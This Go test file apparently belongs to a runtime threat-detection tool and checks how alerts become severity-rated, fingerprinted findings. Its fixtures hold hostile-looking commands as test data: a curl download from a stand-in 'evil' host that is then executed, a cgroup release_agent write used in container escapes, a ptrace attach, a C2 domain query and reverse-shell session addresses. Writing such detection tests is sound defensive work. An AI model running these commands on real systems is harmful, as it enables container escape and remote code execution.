package findings

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/encoding/protojson"
	"google.golang.org/protobuf/proto"

	"github.com/vigilsec/vigil/detect"
	vigilv1 "github.com/vigilsec/vigil/proto/vigil/v1"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// findingJSON renders a finding as the API does, indented and stable.
func findingJSON(t *testing.T, f *vigilv1.Finding) []byte {
	t.Helper()
	raw, err := protojson.Marshal(f)
	if err != nil {
		t.Fatal(err)
	}
	// protojson varies its whitespace on purpose; normalise it.
	var buf bytes.Buffer
	if err := json.Indent(&buf, compact(t, raw), "", "  "); err != nil {
		t.Fatal(err)
	}
	buf.WriteByte('\n')
	return buf.Bytes()
}

func compact(t *testing.T, raw []byte) []byte {
	var buf bytes.Buffer
	if err := json.Compact(&buf, raw); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestBuildMatchesGoldenJSON(t *testing.T) {
	mountEv := testEvent(inContainer, baseTime, testProcess("/usr/bin/mount", "mount", "/etc", "/tmp"))
	mountEv.Syscall, mountEv.Result, mountEv.Errno = "mount", -1, "EPERM"
	mountEv.Kind = &vigilv1.Event_Mount{Mount: &vigilv1.Mount{Source: "/etc", Target: "/tmp", Fstype: "", Flags: 0x1000}}

	releaseEv := testEvent(inECS, baseTime, testProcess("/bin/sh", "sh", "-c", "echo /x > /tmp/cgrp/release_agent"))
	releaseEv.Syscall = "openat"
	releaseEv.Kind = &vigilv1.Event_Open{Open: &vigilv1.FileOpen{Path: "/tmp/cgrp/release_agent", Flags: 0x241, Fd: 3}}

	writeEv := testEvent(inPod, baseTime.Add(-5*time.Second), testProcess("/usr/bin/curl", "curl", "-o", "/tmp/x", "http://evil"))
	writeEv.Syscall = "openat"
	writeEv.Kind = &vigilv1.Event_Open{Open: &vigilv1.FileOpen{Path: "/tmp/x", Flags: 0x241, Created: true}}
	newExec := execEvent(inPod, baseTime, "/tmp/x", "/tmp/x", "--run")

	dnsEv := testEvent(onHost, baseTime, testProcess("/usr/bin/curl", "curl", "c2.guarddutyc2activityb.com"))
	dnsEv.Syscall = "sendto"
	dnsEv.Kind = &vigilv1.Event_DnsQuery{DnsQuery: &vigilv1.DnsQuery{Name: "c2.guarddutyc2activityb.com", Type: "A"}}

	ptraceEv := testEvent(inContainer, baseTime, testProcess("/tmp/inject", "inject"))
	ptraceEv.Syscall = "ptrace"
	ptraceEv.Kind = &vigilv1.Event_Ptrace{Ptrace: &vigilv1.Ptrace{Request: 16, RequestName: "PTRACE_ATTACH", TargetPid: 777}}

	tests := []struct {
		name   string
		golden string
		alert  *detect.Alert
	}{
		{
			name:   "a reverse shell in an ECS task is an ECSCluster finding with the task's container",
			golden: "reverse_shell_ecs.json",
			alert:  alertAt(ruleReverseShell, inECS, baseTime, "/tmp/b4sh"),
		},
		{
			name:   "a failed mount in a plain container fills mountSource and mountTarget",
			golden: "mount_container.json",
			alert:  &detect.Alert{Rule: ruleMount, Time: baseTime, Output: "mount /etc -> /tmp", Events: []*vigilv1.Event{mountEv}},
		},
		{
			name:   "a release_agent write fills releaseAgentPath",
			golden: "release_agent_ecs.json",
			alert: &detect.Alert{Rule: rule("Release agent modified", "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified", 8, "TA0004"),
				Time: baseTime, Output: "release_agent opened for write", Events: []*vigilv1.Event{releaseEv}},
		},
		{
			name:   "a write then exec sequence in a pod names the modifying process",
			golden: "new_binary_pod.json",
			alert: &detect.Alert{Rule: &detect.RuleInfo{Name: "New binary executed", Kind: "sequence", Priority: "WARNING",
				FindingType: "Execution:Runtime/NewBinaryExecuted", MitreTactics: []string{"TA0002"}},
				Time: baseTime, Output: "new binary /tmp/x executed", Events: []*vigilv1.Event{writeEv, newExec},
				Captures: map[string]string{"file": "/tmp/x"}},
		},
		{
			name:   "a threat-list DNS query on a host is an Instance finding with threat intelligence",
			golden: "c2_dns_host.json",
			alert: &detect.Alert{Rule: rule("C&C domain", "Backdoor:Runtime/C&CActivity.B!DNS", 8, "TA0011"),
				Time: baseTime, Output: "query c2.guarddutyc2activityb.com", Events: []*vigilv1.Event{dnsEv},
				Context: map[string]string{"threatListName": "GuardDutyTest", "domain": "c2.guarddutyc2activityb.com", "toolCategory": "Backdoor Tool", "listEntry": "guarddutyc2activityb.com"}},
		},
		{
			name:   "a ptrace attach names the target process",
			golden: "ptrace_container.json",
			alert: &detect.Alert{Rule: rule("Ptrace injection", "DefenseEvasion:Runtime/ProcessInjection.Ptrace", 5, "TA0005"),
				Time: baseTime, Output: "ptrace attach 777", Events: []*vigilv1.Event{ptraceEv}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c, err := Build(tt.alert, baseTime.Add(time.Second))
			if err != nil {
				t.Fatal(err)
			}
			c.Finding.Id = "0123456789abcdef0123456789abcdef"
			got := findingJSON(t, c.Finding)
			path := filepath.Join("testdata", tt.golden)
			if *update {
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("read golden (run with -update to create): %v", err)
			}
			if !bytes.Equal(got, want) {
				t.Errorf("finding JSON differs from %s (run with -update if intended):\n%s", path, got)
			}
			// The golden JSON is what readers get: it must parse back.
			back := &vigilv1.Finding{}
			if err := protojson.Unmarshal(want, back); err != nil {
				t.Fatalf("golden does not parse: %v", err)
			}
			if !proto.Equal(back, c.Finding) {
				t.Errorf("golden does not round-trip")
			}
		})
	}
}

func TestSeverityLabel(t *testing.T) {
	tests := []struct {
		name string
		sev  float64
		want string
	}{
		{"one is Low", 1, "Low"},
		{"3.9 is still Low", 3.9, "Low"},
		{"four starts Medium", 4, "Medium"},
		{"6.9 is still Medium", 6.9, "Medium"},
		{"seven starts High", 7, "High"},
		{"8.9 is still High", 8.9, "High"},
		{"nine starts Critical", 9, "Critical"},
		{"ten is Critical", 10, "Critical"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := SeverityLabel(tt.sev); got != tt.want {
				t.Errorf("SeverityLabel(%v) = %q, want %q", tt.sev, got, tt.want)
			}
		})
	}
}

func TestSeverityFromPriority(t *testing.T) {
	tests := []struct {
		name string
		rule detect.RuleInfo
		want float64
	}{
		{"an explicit severity wins over the priority", detect.RuleInfo{Severity: 6.5, Priority: "CRITICAL"}, 6.5},
		{"a CRITICAL priority is High, not Critical", detect.RuleInfo{Priority: "CRITICAL"}, 8},
		{"a WARNING priority is Medium", detect.RuleInfo{Priority: "Warning"}, 5},
		{"a NOTICE priority is Low", detect.RuleInfo{Priority: "NOTICE"}, 3},
		{"an out-of-range severity is clamped", detect.RuleInfo{Severity: 42}, 10},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := SeverityOf(&tt.rule); got != tt.want {
				t.Errorf("SeverityOf = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestFingerprint(t *testing.T) {
	base := alertAt(ruleReverseShell, inContainer, baseTime, "/tmp/b4sh")
	fp := func(a *detect.Alert) string {
		c, err := Build(a, baseTime)
		if err != nil {
			t.Fatal(err)
		}
		return c.Fingerprint
	}
	otherExe := alertAt(ruleReverseShell, inContainer, baseTime, "/bin/zsh")
	otherTime := alertAt(ruleReverseShell, inContainer, baseTime.Add(time.Hour), "/tmp/b4sh")
	onHostToo := alertAt(ruleReverseShell, onHost, baseTime, "/tmp/b4sh")
	withCtx := alertAt(ruleReverseShell, inContainer, baseTime, "/tmp/b4sh")
	withCtx.Context = map[string]string{"socketPath": "/run/docker.sock"}
	withCmd := alertAt(ruleReverseShell, inContainer, baseTime, "/tmp/b4sh")
	withCmd.Context = map[string]string{"commandLineExample": "b4sh -c id"}
	tests := []struct {
		name string
		a    *detect.Alert
		same bool
	}{
		{"a repeat later in time is the same finding", otherTime, true},
		{"a different executable is a different finding", otherExe, false},
		{"the same behaviour on the host is a different finding", onHostToo, false},
		{"a different context value is a different finding", withCtx, false},
		{"a different command line is the same finding", withCmd, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := fp(tt.a) == fp(base); got != tt.same {
				t.Errorf("same fingerprint = %v, want %v", got, tt.same)
			}
		})
	}

	// group_by: the group's values stand for the executable.
	grouped := func(exe, key string) *detect.Alert {
		a := alertAt(ruleReverseShell, inContainer, baseTime, exe)
		a.GroupKey = key
		return a
	}
	session := grouped("/bin/sh", "203.0.113.7:4444\x00")
	groups := []struct {
		name string
		a    *detect.Alert
		same bool
	}{
		{"another command of the same session is the same finding", grouped("/usr/bin/id", "203.0.113.7:4444\x00"), true},
		{"another session is a different finding", grouped("/bin/sh", "198.51.100.9:53\x00"), false},
		{"the same executable outside the group is a different finding", alertAt(ruleReverseShell, inContainer, baseTime, "/bin/sh"), false},
	}
	for _, tt := range groups {
		t.Run(tt.name, func(t *testing.T) {
			if got := fp(tt.a) == fp(session); got != tt.same {
				t.Errorf("same fingerprint = %v, want %v", got, tt.same)
			}
		})
	}
}

func TestBuildRejectsIncompleteAlerts(t *testing.T) {
	tests := []struct {
		name  string
		alert *detect.Alert
	}{
		{"an alert without a rule is rejected", &detect.Alert{Events: []*vigilv1.Event{execEvent(onHost, baseTime, "/bin/sh")}}},
		{"an alert without events is rejected", &detect.Alert{Rule: ruleReverseShell}},
		{"an alert of nil events only is rejected", &detect.Alert{Rule: ruleReverseShell, Events: []*vigilv1.Event{nil}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := Build(tt.alert, baseTime); err == nil {
				t.Error("Build succeeded, want an error")
			}
		})
	}
}

func TestBuildSkipsNilEvents(t *testing.T) {
	a := alertAt(ruleReverseShell, inContainer, baseTime, "/tmp/b4sh")
	a.Events = []*vigilv1.Event{nil, a.Events[0], nil}
	c, err := Build(a, baseTime)
	if err != nil {
		t.Fatal(err)
	}
	if n := len(c.Finding.GetEvidence().GetEvents()); n != 1 {
		t.Errorf("evidence holds %d events, want the one real event", n)
	}
	if _, err := proto.Marshal(c.Finding); err != nil {
		t.Errorf("finding does not encode: %v", err)
	}
}

func TestBuildRepairsInvalidUTF8(t *testing.T) {
	long := strings.Repeat("é", maxCommandLine) // a byte bound cuts a rune
	a := alertAt(ruleReverseShell, inContainer, baseTime, "/tmp/b4sh")
	a.Events[0].Process.Args = []string{long}
	a.Output = "raw \xff bytes"
	a.Context = map[string]string{"commandLineExample": "x\xfe", "custom\xff": "v"}
	a.Captures = map[string]string{"file": "/tmp/\xc3"}
	c, err := Build(a, baseTime)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := proto.Marshal(c.Finding); err != nil {
		t.Fatalf("finding with repaired strings does not encode: %v", err)
	}
	if got := c.Finding.GetEvidence().GetOutput(); got != "raw \uFFFD bytes" {
		t.Errorf("output = %q", got)
	}
}
